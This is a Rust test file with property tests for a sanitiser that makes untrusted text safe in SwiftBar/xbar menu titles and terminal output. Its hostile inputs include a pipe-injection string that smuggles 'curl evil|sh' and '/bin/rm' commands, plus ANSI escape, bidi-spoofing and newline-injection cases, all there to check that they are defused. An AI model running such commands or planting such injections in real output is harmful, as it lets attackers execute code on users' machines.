//! The untrusted-text sanitiser: explicit hostile cases and properties.

use poolwatch::render::sanitize::{menu_text, terminal_text};
use proptest::prelude::*;

/// Every character SwiftBar (`CharacterSet.newlines`) or xbar splits lines on.
const LINE_BREAKS: [char; 7] = [
    '\n', '\r', '\u{0B}', '\u{0C}', '\u{85}', '\u{2028}', '\u{2029}',
];

fn is_bidi_or_invisible(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200B}' | '\u{FEFF}')
}

/// What SwiftBar shows after its `\\ -> \`, `\n -> LF`, `\t -> TAB`, `\c -> c` unescape.
fn swiftbar_unescape(s: &str) -> String {
    let mut out = String::new();
    let mut backslash = false;
    for c in s.chars() {
        if backslash {
            backslash = false;
            match c {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                other => out.push(other),
            }
        } else if c == '\\' {
            backslash = true;
        } else {
            out.push(c);
        }
    }
    out
}

/// Visible characters of a sanitised title (doubled backslashes count once).
fn visible_len(s: &str) -> usize {
    swiftbar_unescape(s).chars().count()
}

#[test]
fn pipe_injection_is_defused() {
    let out = menu_text("me | bash=/bin/sh param1=-c param2=\"curl evil|sh\"", 200);
    assert_eq!(out, "me ¦ bash=/bin/sh param1=-c param2=\"curl evil¦sh\"");
    assert_eq!(menu_text("x | shortcut=cmd+k", 50), "x ¦ shortcut=cmd+k");
}

#[test]
fn each_newline_kind_cannot_start_a_line() {
    for nl in LINE_BREAKS {
        let out = menu_text(&format!("a{nl}---{nl}Refresh | bash=/bin/rm"), 80);
        assert_eq!(out, "a --- Refresh ¦ bash=/bin/rm", "{nl:?}");
    }
}

#[test]
fn separator_and_submenu_prefixes_are_neutralised() {
    assert_eq!(menu_text("---", 10), "‐‐‐");
    assert_eq!(menu_text("--child", 10), "‐‐child");
    assert_eq!(menu_text("\n---", 10), "‐‐‐");
    assert!(!menu_text("-", 10).starts_with('-'));
}

#[test]
fn ansi_escapes_are_removed_in_both_outputs() {
    let hostile = "\u{1b}[31mred\u{1b}[0m \u{1b}]0;window title\u{7}x \u{1b}P+q\u{1b}\\y";
    assert_eq!(menu_text(hostile, 80), "red x y");
    assert_eq!(terminal_text(hostile, 80), "red x y");
}

#[test]
fn symbols_stay_text_and_backslashes_are_doubled() {
    // `:trash:` is left as text (the menu adds symbolize=false / emojize=false).
    assert_eq!(menu_text(":trash: :gear:", 40), ":trash: :gear:");
    assert_eq!(menu_text("a\\nb\\t\\", 40), "a\\\\nb\\\\t\\\\");
    assert_eq!(
        swiftbar_unescape(&menu_text("a\\nb\\t\\", 40)),
        "a\\nb\\t\\"
    );
}

#[test]
fn bidi_overrides_are_removed() {
    assert_eq!(
        menu_text("\u{202E}gnp.exe\u{2066}x\u{2069}", 40),
        "gnp.exex"
    );
}

#[test]
fn long_text_is_truncated_with_ellipsis() {
    let long = "ab".repeat(5000);
    let out = menu_text(&long, 24);
    assert_eq!(out.chars().count(), 24);
    assert!(out.ends_with('…'));
    assert_eq!(terminal_text(&long, 10), "ababababa…");
}

#[test]
fn invalid_utf8_is_replaced_at_the_boundary() {
    let lossy = String::from_utf8_lossy(b"caf\xc3\xa9 \xff|\xfe\n---");
    assert_eq!(menu_text(&lossy, 40), "café \u{FFFD}¦\u{FFFD} ---");
}

#[test]
fn terminal_text_keeps_pipes_and_dashes() {
    assert_eq!(terminal_text("--a|b", 10), "--a|b");
    assert_eq!(terminal_text("a\\b", 10), "a\\b");
}

proptest! {
    #[test]
    fn menu_text_is_one_inert_title(s in any::<String>(), max in 0usize..64) {
        let out = menu_text(&s, max);
        prop_assert!(!out.contains('|'));
        prop_assert!(!out.contains(LINE_BREAKS));
        prop_assert!(!out.chars().any(|c| c.is_control()));
        prop_assert!(!out.chars().any(is_bidi_or_invisible));
        prop_assert!(!out.starts_with('-'));
        prop_assert!(!out.starts_with(' ') && !out.ends_with(' '));
        prop_assert!(visible_len(&out) <= max);
        // Every backslash is one half of a doubled pair.
        prop_assert!(!out.replace("\\\\", "").contains('\\'));
    }

    #[test]
    fn clean_text_survives_unchanged(s in "[a-zA-Z0-9@._+ ]{0,30}") {
        let expected = s.split_whitespace().collect::<Vec<_>>().join(" ");
        prop_assert_eq!(menu_text(&s, 64), expected.clone());
        prop_assert_eq!(terminal_text(&s, 64), expected);
    }

    #[test]
    fn terminal_text_has_no_escapes(s in any::<String>(), max in 0usize..64) {
        let out = terminal_text(&s, max);
        prop_assert!(!out.chars().any(|c| c.is_control()));
        prop_assert!(!out.contains(LINE_BREAKS));
        prop_assert!(out.chars().count() <= max);
    }

    #[test]
    fn sanitising_twice_changes_nothing_more_for_terminal(s in any::<String>()) {
        let once = terminal_text(&s, 200);
        prop_assert_eq!(terminal_text(&once, 200), once);
    }
}
